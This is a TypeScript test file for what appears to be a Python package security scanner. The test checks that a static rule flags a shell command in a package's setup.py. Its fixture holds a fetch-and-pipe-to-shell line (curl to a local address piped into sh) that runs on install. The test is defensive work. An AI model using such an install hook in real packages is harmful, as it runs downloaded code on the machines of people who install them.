import { describe, expect, test } from "bun:test";
import { useTempDirs } from "../harness/temp.ts";
import { scan, sdistArtifact } from "./helpers.ts";

/**
 * What each static rule must and must not flag lives in rules/static-*.cases.yaml (run by
 * test/rules/cases.test.ts); this checks what a finding carries.
 */
const tempDir = useTempDirs("pipcanary-static-rules");

describe("static findings", () => {
  test("code findings name file, line and the offending snippet", async () => {
    const artifact = sdistArtifact(tempDir(), { name: "sh1", version: "1.0", files: {}, setupPy: "import os as o\no.system('curl -s http://127.0.0.1:9/x | sh')\nfrom setuptools import setup\nsetup()\n" });
    const result = await scan([artifact]);
    const finding = result.findings.find((f) => f.ruleId === "static.install.shell");
    expect(finding?.subject).toEqual({ kind: "code", file: "sh1-1.0/setup.py", line: 2, snippet: "o.system('curl -s http://127.0.0.1:9/x | sh')" });
    expect(finding?.phase).toBe("static");
    expect(finding?.package).toBe("sh1");
    expect(finding?.artifactSha256).toBe(artifact.sha256);
  }, 120_000);
});
